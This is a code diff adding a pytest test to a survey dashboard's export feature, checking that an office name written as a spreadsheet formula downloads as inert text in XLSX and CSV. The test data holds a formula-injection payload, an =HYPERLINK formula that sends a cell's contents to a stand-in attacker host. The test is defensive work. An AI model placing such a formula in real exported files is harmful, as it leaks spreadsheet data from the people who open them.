@@ -83,3 +83,23 @@ def test_suppression_applies_to_counts_of_distribution_tables():
 def test_a_csv_download_names_its_charset_once(admin_client):
     response = admin_client.get("/dashboard/download/procedures.csv")
     assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_an_office_name_written_as_a_formula_downloads_inert(admin_client, session):
+    """A name typed as `=HYPERLINK(…)` in a catalog file must not become a live formula in an official's Excel."""
+    from survey.models import Office
+
+    hostile = '=HYPERLINK("http://lua-dao.example/?c="&A1,"Bấm để xem")'
+    session.scalars(select(Office).where(Office.code == "79.02")).one().name = hostile
+    session.commit()
+    xlsx = admin_client.get("/dashboard/download/offices.xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx.data)).active
+    every_cell = [cell for row in sheet.iter_rows() for cell in row]
+    cells = [cell for cell in every_cell if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"  # openpyxl reads a live formula as "f"
+    assert cells[0].value == "'" + hostile
+    assert not any(cell.data_type == "f" for cell in every_cell)
+    offices = {row["office"]: row for row in csv_rows(admin_client.get("/dashboard/download/offices.csv"))}
+    assert offices["79.02"]["name"] == "'" + hostile
+    assert offices["79.02"]["n"] == "50"  # figures stay figures
